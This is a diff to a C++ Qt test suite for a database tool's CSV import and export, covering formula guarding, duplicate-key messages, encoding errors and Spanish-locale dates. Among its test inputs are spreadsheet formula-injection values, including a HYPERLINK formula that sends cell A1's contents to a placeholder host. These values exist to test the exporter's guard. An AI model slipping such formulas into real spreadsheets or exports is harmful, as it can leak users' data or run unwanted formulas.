@@ -170,6 +170,11 @@ private slots:
             QStringLiteral("\"empieza con comillas"),
             QStringLiteral("ÁRNICA"),
             QStringLiteral("árnica"),
+            // What a spreadsheet would run as a formula, and texts that only look guarded.
+            QStringLiteral("=1+1"),
+            QStringLiteral("'=HYPERLINK(\"http://x\"&A1)"),
+            QStringLiteral("-tos"),
+            QStringLiteral("'"),
         };
         const QStringList memos = {QStringLiteral("dos\nlíneas"),
                                    QStringLiteral("con CR LF\r\nen medio"),
@@ -178,7 +183,11 @@ private slots:
                                    longMemo,
                                    QStringLiteral("emoji 😀 y \"citas\""),
                                    QStringLiteral(","),
-                                   QStringLiteral("\"\"")};
+                                   QStringLiteral("\"\""),
+                                   QStringLiteral("@SUM(A1)"),
+                                   QStringLiteral("\tcon tabulador"),
+                                   QStringLiteral("''+dos"),
+                                   QStringLiteral("'sin fórmula")};
         for (int i = 0; i < keys.size(); ++i)
             post(a, QStringLiteral("Cosmetic.DB"),
                  {{QStringLiteral("Producto Cosmetico"), keys[i]},
@@ -216,6 +225,19 @@ private slots:
             QCOMPARE(records(b, t), records(a, t));
             QCOMPARE(exportBytes(b, t), csv);
         }
+        const QByteArray cosmetics = exportBytes(a, QStringLiteral("Cosmetic.DB"));
+        for (const char* guarded : {"\r\n'=1+1,", "\r\n\"''=HYPERLINK(", ",'@SUM(A1)", ",'''+dos", ",'sin fórmula"})
+            QVERIFY2(cosmetics.contains(guarded), guarded);
+        // Without the guard both ways, the texts go out and come back as they are.
+        QBuffer raw;
+        raw.open(QIODevice::WriteOnly);
+        exportTable(a, tableNamed(QStringLiteral("Cosmetic.DB")), &raw, nullptr, ',', CsvEncoding::Utf8, false);
+        QVERIFY(raw.data().contains("\r\n=1+1,"));
+        ImportOptions asItStands;
+        asItStands.replace = true;
+        asItStands.guardFormulas = false;
+        importWith(b, QStringLiteral("Cosmetic.DB"), raw.data(), asItStands);
+        QCOMPARE(records(b, QStringLiteral("Cosmetic.DB")), records(a, QStringLiteral("Cosmetic.DB")));
         // Blanks at both ends survive an unquoted field; a blank sorts before letters.
         QCOMPARE(records(b, QStringLiteral("Cosmetic.DB")).first().at(0).toString(),
                  QStringLiteral(" espacios al borde "));
@@ -265,6 +287,8 @@ private slots:
                                         << false
                                         << QStringList{"row 3", "line 4", "'Precio'",
                                                        "'12x' is not a valid integer value"};
+        QTest::newRow("decimal price") << "Producto.db" << products + "12,Menta,\"3,20\"\r\n"
+                                       << false << QStringList{"row 3", "'Precio'", "'3,20'", "whole numbers"};
         QTest::newRow("too long") << "Producto.db" << products + "12," + QString(31, QChar(0x00F1)).toUtf8() + ",5\r\n"
                                   << false << QStringList{"row 3", "'Descripcion'", "31 characters", "30"};
         QTest::newRow("required empty") << "Producto.db" << products + "12,Menta,\r\n"
@@ -273,7 +297,7 @@ private slots:
                                           << false << QStringList{"row 3", "'Codigo'", "already has the value 10"};
         QTest::newRow("repeated in table")
             << "Producto.db" << QByteArray("Codigo,Descripcion,Precio\r\n1,Repetido,5\r\n") << false
-            << QStringList{"row 1", "'Codigo'", "already has the value 1"};
+            << QStringList{"1 record of the file has a key", "Codigo '1', row 1", "--skip-existing"};
         QTest::newRow("field count") << "Producto.db" << products + "12,Menta\r\n"
                                      << false << QStringList{"row 3", "2 fields", "3"};
         QTest::newRow("short integer range") << "Ventas.DB"
@@ -599,7 +623,20 @@ private slots:
         QCOMPARE(r.skipped, qint64(1));
         QVERIFY(Database::check(dir).isEmpty());
 
-        QVERIFY(refusalWith(dir, QStringLiteral("Producto.db"), "Codigo,Descripcion,Precio\r\n1,a,1\r\n", skip)
+        // Producto.db has no index field; its unique Codigo tells its records.
+        importBytes(dir, QStringLiteral("Producto.db"), "Codigo,Descripcion,Precio\r\n2001,Tila,90\r\n");
+        const QByteArray again = "Codigo,Descripcion,Precio\r\n2002,Poleo,70\r\n2001,Tila nueva,95\r\n";
+        m = refusalWith(dir, QStringLiteral("Producto.db"), again, {});
+        QVERIFY2(m.contains(QLatin1String("1 record of the file has a key")) &&
+                     m.contains(QLatin1String("Codigo '2001', row 2")),
+                 qPrintable(m));
+        r = importWith(dir, QStringLiteral("Producto.db"), again, skip);
+        QCOMPARE(r.imported, qint64(1));
+        QCOMPARE(r.skipped, qint64(1));
+        QCOMPARE(exportBytes(dir, QStringLiteral("Producto.db")),
+                 QByteArray("Codigo,Descripcion,Precio\r\n2001,Tila,90\r\n2002,Poleo,70\r\n"));
+        QVERIFY(refusalWith(dir, QStringLiteral("Ventas.DB"),
+                            "Caja,Fecha y Hora,Codigo,Importe\r\n1,2026-01-01,1,1\r\n", skip)
                     .contains(QLatin1String("no key field")));
     }
 
@@ -720,9 +757,64 @@ private slots:
             exportTable(dir, tableNamed(QStringLiteral("Producto.db")), &c, nullptr, ';', CsvEncoding::Windows1252);
             QFAIL("a character outside Windows-1252 was exported");
         } catch (const Error& e) {
-            QVERIFY2(e.message().contains(QLatin1String("record 4")) && e.message().contains(QLatin1String("U+1f33f")),
+            QVERIFY2(e.message().contains(QLatin1String("record 3 (line 4)")) &&
+                         e.message().contains(QLatin1String("U+1f33f")),
                      qPrintable(e.message()));
         }
+        // A memo's line breaks move the lines of the records after it.
+        post(dir, QStringLiteral("Cosmetic.DB"),
+             {{QStringLiteral("Producto Cosmetico"), QStringLiteral("A")},
+              {QStringLiteral("Indicaciones"), QStringLiteral("una\r\ndos\rtres\ncuatro")}});
+        post(dir, QStringLiteral("Cosmetic.DB"), {{QStringLiteral("Producto Cosmetico"), QStringLiteral("B 🌿")}});
+        QBuffer d;
+        d.open(QIODevice::WriteOnly);
+        try {
+            exportTable(dir, tableNamed(QStringLiteral("Cosmetic.DB")), &d, nullptr, ';', CsvEncoding::Windows1252);
+            QFAIL("a character outside Windows-1252 was exported");
+        } catch (const Error& e) {
+            QVERIFY2(e.message().contains(QLatin1String("record 2 (line 6)")), qPrintable(e.message()));
+        }
+    }
+
+    // A sales sheet as a spreadsheet set to Spanish saves it: semicolons,
+    // Windows-1252, CR LF and dates with the day first, read as such only
+    // where the regional settings put the day first.
+    void readsASpanishSalesSheetUnderItsLocale()
+    {
+        const QString csv = tmp_.filePath(QStringLiteral("ventas-es.csv"));
+        QFile f(csv);
+        QVERIFY(f.open(QIODevice::WriteOnly));
+        f.write("Caja;Fecha y Hora;Codigo;Importe;Producto\r\n"
+                "1;09/12/2026 10:15;2001;320;T\xE9 verde\r\n"
+                "2;9/12/26 10:15;2002;150;Manzanilla\r\n"
+                "1;1/2/2026 8:05:30;2003;90;Tila\r\n");
+        f.close();
+        auto import = [&](const char* locale, const QString& dir, QByteArray* err) {
+            QProcess p;
+            QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
+            env.insert(QStringLiteral("LC_ALL"), QLatin1String(locale));
+            p.setProcessEnvironment(env);
+            p.start(QStringLiteral(YERBALIS_ADMIN),
+                    {QStringLiteral("import"), dir, QStringLiteral("ventas"), csv, QStringLiteral("--encoding"),
+                     QStringLiteral("windows-1252")});
+            p.waitForFinished(30000);
+            *err = p.readAllStandardError();
+            return p.exitStatus() == QProcess::NormalExit ? p.exitCode() : -1;
+        };
+        QByteArray err;
+        const QString es = makeDatabase(tmp_, QStringLiteral("ventas-es"));
+        QCOMPARE(import("es_ES.UTF-8", es, &err), 0);
+        QCOMPARE(exportBytes(es, QStringLiteral("Ventas.DB")),
+                 QByteArray("Caja,Fecha y Hora,Codigo,Importe,Producto\r\n"
+                            "1,2026-12-09 10:15:00,2001,320,Té verde\r\n"
+                            "2," +
+                            QByteArray::number(fullYear(26)) +
+                            "-12-09 10:15:00,2002,150,Manzanilla\r\n"
+                            "1,2026-02-01 08:05:30,2003,90,Tila\r\n"));
+        const QString c = makeDatabase(tmp_, QStringLiteral("ventas-c"));
+        QCOMPARE(import("C.UTF-8", c, &err), 1);
+        QVERIFY2(err.contains("row 1 (line 2), field 'Fecha y Hora'") && err.contains("put the day first"),
+                 err.constData());
     }
 
     void sortKeyFromUtf8MatchesTheStore()
